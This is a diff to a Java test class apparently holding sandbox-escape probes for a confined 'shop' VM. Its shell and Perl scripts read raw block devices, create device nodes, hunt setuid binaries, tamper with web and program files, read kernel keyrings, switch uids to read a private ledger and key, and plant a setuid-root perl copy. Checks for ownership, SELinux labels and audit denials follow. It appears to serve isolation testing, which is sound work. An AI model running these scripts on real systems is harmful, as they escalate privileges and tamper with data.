@@ -15,7 +15,8 @@ final class Attacks {
     return """
     reads() { perl -e 'open D, "<", shift and seek D, 1080, 0 and read D, $m, 2; exit !($m eq "\\x53\\xef")' "$1"; }
     echo '#by reading the device'
-    for disk in /dev/vda /dev/block/NUMBERS; do reads $disk && echo DONE NONCE; done
+    find / \\( -path /proc -o -path /sys \\) -prune -o -type b -print 2>/dev/null |
+      while read -r disk; do reads $disk && echo DONE NONCE; done
     echo '#by making the device anew, with mknod'
     for folder in /tmp /dev /run /orders; do
       mknod $folder/NONCE b $(echo NUMBERS | tr : " ") || continue
@@ -52,6 +53,13 @@ final class Attacks {
         .replace("FIND", SET_USER_ID);
   }
 
+  /** In the VM: whose the ledger is, and what it says. */
+  static final String LEDGER_AFTERMATH =
+      """
+      stat -c %u /srv/shop/orders/ledger
+      cat /srv/shop/orders/ledger\
+      """;
+
   /** Reads root's file in the shop. */
   static String climbing() {
     return """
@@ -63,17 +71,21 @@ final class Attacks {
     done
     true\
     """
-        .replace("FIND", SET_USER_ID);
+        .replace("FIND", PROGRAMS);
   }
 
-  private static final String SET_USER_ID =
-      "find / \\( -path /proc -o -path /sys \\) -prune -o -type f -perm -4000 -print 2>/dev/null";
+  private static final String FILES = "find / \\( -path /proc -o -path /sys \\) -prune -o -type f ";
+
+  private static final String SET_USER_ID = FILES + "-perm -4000 -print 2>/dev/null";
+
+  /** Those that aren't scripts: a power may be written onto any of them. */
+  private static final String PROGRAMS = FILES + "-perm -1 -size +99k -print 2>/dev/null";
 
   /** Changes the page, the programs or anything else that the shop is made of. */
   static String leavingSomething() {
     return """
     PATH=/bin:/usr/bin
-    add() { echo "#$1: $2"; perl -e 'open F, ">>", shift and print "DONE NONCE\\n"' $2; }
+    add() { echo "#$1: $2"; (: >>$2) 2>/dev/null && echo DONE NONCE; }
     put() { echo "#$1: $2"; (: >$2 && rm $2) 2>/dev/null && echo DONE NONCE; }
     all() {
       for file in /www/index.html /www/cgi-bin/order /bin/shop; do add "$1" $file; done
@@ -106,8 +118,11 @@ final class Attacks {
       key(8, -4, -3);
       $id = key(10, -4, $kind, $name, 0);
       $id = syscall 249, $kind, $name, 0, -4 if $id < 0;
+      if ($id < 0 and open K, "<", "/proc/keys") { /^(\\w+) .* user +$name: / and $id = hex $1 for <K> }
       $length = $id < 0 ? -1 : key(11, $id, $value, 99);
       print substr($value, 0, $length), "\\n" if $length > 0;
+      $nothing = "";
+      $id > 0 and key(2, $id, $nothing, 0) < 0 and $! == 22 and print "#by writing over it\\nDONE NONCE\\n";
       $gift = "gift-NONCE"; $value = "gift";
       syscall 248, $kind, $gift, $value, length $value, -4;
     '
@@ -139,6 +154,22 @@ final class Attacks {
     echo '#the ledger'
     cat /orders/ledger
     perl -e '$( = $) = 4321; $< = $> = 4321; open L, "<", "/orders/ledger" and print <L>'
+    perl -e '
+      open M, "<", "/proc/self/uid_map";
+      for (<M>) {
+        ($in, $out, $count) = split;
+        for $who (0, 4321) {
+          $is = $in + $who - $out;
+          next if $who < $out or $who >= $out + $count or $is == 0;
+          next if fork and wait;
+          $( = $) = $is; $< = $> = $is;
+          for ("/orders/key", "/orders/ledger") {
+            open F, "<", $_ and print "#inside they become user $is, who is user $who outside\\n", <F>;
+          }
+          exit;
+        }
+      }
+    '
     cp /bin/perl /orders/gift-NONCE && chmod 4755 /orders/gift-NONCE
     true\
     """;
@@ -150,7 +181,7 @@ final class Attacks {
       gift=/srv/shop/orders/gift-NONCE
       owner=$(stat -c %u $gift) || exit 0
       echo "owner $owner $(getent passwd $owner | cut -d: -f1)"
-      echo "starts $(setpriv --reuid 65534 --regid 65534 --clear-groups $gift -e 'print $>')"
+      echo "starts $(/usr/bin/setpriv --reuid 65534 --regid 65534 --clear-groups $gift -e 'print $>')"
       rm -f $gift\
       """;
 
@@ -169,7 +200,7 @@ final class Attacks {
   static final String MARKET_AFTERMATH =
       """
       echo "mode $(cat /sys/fs/selinux/enforce)"
-      for till in shop/till baker/till bank; do echo "label $(stat -c %C /srv/market/$till)"; done
+      for till in shop/till baker/till bank; do echo "label $(/usr/bin/stat -c %C /srv/market/$till)"; done
       dmesg | sed -n '/robber NONCE/,$p' | grep avc:\
       """;
 }
